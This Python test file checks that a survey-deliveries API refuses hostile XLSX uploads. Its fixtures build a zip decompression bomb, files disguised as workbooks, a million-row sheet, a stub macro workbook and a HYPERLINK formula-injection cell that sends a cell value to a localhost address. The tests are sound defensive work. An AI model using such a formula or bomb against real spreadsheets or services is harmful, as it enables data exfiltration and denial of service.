"""Workbooks that would do harm, at the address of deliveries: refused, and it is said why."""

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest

from tests.attacks.test_spreadsheets import BOMBS, SHEET, parts, zipped
from tests.factories import Api
from tests.telephone.bulk import XLSX, lines, send_body, taken, told
from tests.telephone.deliveries import interview, traces

HEADER = ["interview_id", "unit", "population", "phone", "disposition", "ended_at", "overall"]


def rows_of(count: int = 1) -> list[list[Any]]:
    """Good rows of interviews."""
    items = [interview(f"V-{number}", disposition="1.2") for number in range(count)]
    return [[*(item[name] for name in HEADER[:-1]), "satisfied"] for item in items]


def book(*rows: list[Any]) -> bytes:
    """A workbook with the header and these rows."""
    made = openpyxl.Workbook(write_only=True)
    sheet = made.create_sheet()
    for row in (HEADER, *rows):
        sheet.append(row)
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def inflated() -> bytes:
    """Two hundred thousand bytes that unpack to more than a hundred million."""
    found = parts(book(*rows_of()))
    head, tag, tail = found[SHEET].partition(b"</sheetData>")
    found[SHEET] = head + b" " * (101 << 20) + tag + tail
    return zipped(found)


def as_csv() -> bytes:
    """A CSV under the name of a workbook."""
    stream = io.StringIO()
    csv.writer(stream).writerows([HEADER, *rows_of()])
    return stream.getvalue().encode()


@pytest.mark.parametrize(
    ("made", "said"),
    [
        (inflated, "unpacks to more than"),
        (as_csv, "not an XLSX workbook"),
        (lambda: lines([interview()]), "not an XLSX workbook"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000, "not an XLSX workbook"),
        (lambda: book(*rows_of())[:-200], "not an XLSX workbook"),
        (BOMBS["rows far away"], "rows beyond"),
        (BOMBS["attributes"], "absurd length"),
        (BOMBS["cells in a cell"], "nested too deep"),
    ],
    ids=["bomb", "csv", "ndjson", "xls", "cut", "far-rows", "attributes", "nested"],
)
async def test_what_is_no_workbook_is_refused_as_a_whole(
    contractor: Api, made: Callable[[], bytes], said: str
) -> None:
    reply = await send_body(contractor, made(), XLSX)
    assert (reply.status_code, reply.json()["type"]) == (400, "/problems/malformed")
    assert said in reply.json()["detail"]
    assert not any((await traces(contractor)).values())


async def test_a_million_declared_rows_are_those_that_are_written(contractor: Api) -> None:
    found = parts(book(*rows_of(2)))
    empty = b"".join(b'<row r="%d"/>' % number for number in range(4, 1_048_577))
    found[SHEET] = found[SHEET].replace(b"</sheetData>", empty + b"</sheetData>")
    dimension = b'<dimension ref="A1:XFD1048576"/><sheetData>'
    found[SHEET] = found[SHEET].replace(b"<sheetData>", dimension)
    assert dimension in found[SHEET]
    assert told(await taken(contractor, zipped(found), XLSX)) == (2, 0)


async def test_formulas_without_results_are_named_and_never_computed(contractor: Api) -> None:
    good, bad = rows_of(2)
    bad[1] = '=HYPERLINK("http://127.0.0.1:9/"&D3,"A1")'
    reply = await taken(contractor, book(good, bad), XLSX)
    assert told(reply) == (1, 1)
    [refused] = [one for one in reply["results"] if one["status"] == "rejected"]
    assert [(one["row"], one["column"]) for one in refused["problem"]["errors"]] == [(3, "B unit")]
    assert "HYPERLINK" not in str(reply)


async def test_macros_of_a_workbook_are_not_looked_at(contractor: Api) -> None:
    found = parts(book(*rows_of()))
    found["[Content_Types].xml"] = found["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    found["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"Sub Auto_Open()" * 1000
    assert told(await taken(contractor, zipped(found), XLSX)) == (1, 0)
    kind = "application/vnd.ms-excel.sheet.macroEnabled.12"
    refused = await send_body(contractor, zipped(found), kind)
    assert refused.status_code == 415
